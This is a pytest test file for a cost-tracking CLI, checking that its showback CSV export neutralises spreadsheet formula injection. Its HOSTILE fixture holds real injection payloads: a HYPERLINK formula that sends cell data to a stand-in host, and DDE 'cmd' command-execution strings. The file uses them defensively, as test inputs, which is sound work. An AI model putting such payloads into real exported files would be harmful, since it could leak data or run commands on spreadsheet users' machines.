"""Formula injection in the showback CSV (docs/reliability.md, finding 6).

`llmgov cost --format csv` writes names, teams, features, customers and owner names that
come from the registry and from Slack. A cell a spreadsheet would take for a formula
(`=`, `+`, `-`, `@`, tab, carriage return first) is written with a leading `'`; numbers,
a negative amount included, stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest

from llmgov.bot.cli import main
from llmgov.bot.cli.cost import csv_cell
from llmgov.models.facts import CostFact
from llmgov.models.registry import Person, Team, Workload

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?x="&A1,"Details")',
    "feature": "+1+cmd|' /C calc'!A0",
    "customer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "owner": "\t=1+1",
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("search-summaries", "search-summaries"),
        ("", ""),
        (Decimal("-12.50"), Decimal("-12.50")),
        (3, 3),
        (date(2026, 11, 1), date(2026, 11, 1)),
    ],
)
def test_a_cell_that_could_start_a_formula_is_written_as_text(value, written):
    assert csv_cell(value) == written


def test_the_showback_csv_neutralises_every_outside_text_cell(session, capsys, monkeypatch):
    team = Team(slug="finance", name="Finance")
    owner = Person(slack_id="U0CSV0001", name=HOSTILE["owner"])
    workload = Workload(
        slug="report-writer",
        name=HOSTILE["name"],
        team=team,
        owner=owner,
        feature=HOSTILE["feature"],
        customer=HOSTILE["customer"],
    )
    session.add_all([team, owner, workload])
    session.flush()
    today = date.today()
    for offset, cost in ((1, Decimal("40")), (2, Decimal("-55.25"))):  # a credit
        session.add(
            CostFact(
                source="cost_explorer",
                series_key="report-writer",
                day=today - timedelta(days=offset),
                cost=cost,
                workload_id=workload.id,
            )
        )
    session.commit()

    assert main(["cost", "all", "7d", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    (row,) = [r for r in rows if r["workload"] == "report-writer"]
    for column, value in (
        ("name", HOSTILE["name"]),
        ("feature", HOSTILE["feature"]),
        ("customer", HOSTILE["customer"]),
    ):
        assert row[column] == "'" + value, column
    owner_cells = [v for k, v in row.items() if k.startswith("owner") and v != "U0CSV0001"]
    assert owner_cells == ["'" + HOSTILE["owner"]]
    assert row["total"] == "-15.25"  # a number, negative, not a text cell

    for by in ("feature", "customer"):
        assert main(["cost", "all", "7d", "--format", "csv", "--by", by]) == 0
        cells = [c for r in csv.reader(io.StringIO(capsys.readouterr().out)) for c in r]
        assert "'" + HOSTILE[by] in cells and HOSTILE[by] not in cells, by
